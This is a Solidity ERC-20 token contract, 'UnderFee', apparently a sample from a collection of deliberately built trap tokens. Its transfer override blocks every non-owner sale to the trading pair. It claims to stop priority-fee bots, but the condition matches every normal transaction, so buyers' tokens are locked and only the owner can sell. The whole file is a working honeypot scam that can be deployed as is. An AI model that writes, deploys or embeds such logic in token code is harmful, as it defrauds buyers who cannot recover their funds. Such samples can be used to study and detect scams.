// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// "Protection from priority-fee bots": refuses who pays the base fee, as every transaction does.
contract UnderFee is TrapErc20V8 {
    address private immutable weth;
    address private immutable factory;

    constructor(address factory_, address weth_) TrapErc20V8("Under Fee", "UNDR", 33_000_000 ether) {
        factory = factory_;
        weth = weth_;
    }

    /// Where the pair of this token stands, computed and never stored.
    function _market() private view returns (address found) {
        (, bytes memory answer) = factory.staticcall(
            abi.encodeWithSignature("getPair(address,address)", address(this), weth)
        );
        found = abi.decode(answer, (address));
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && to == _market()) {
            bool bot = tx.gasprice >= block.basefee && tx.gasprice != 0;
            require(!bot, "priority fee too high");
        }
        super._transfer(from, to, value);
    }
}
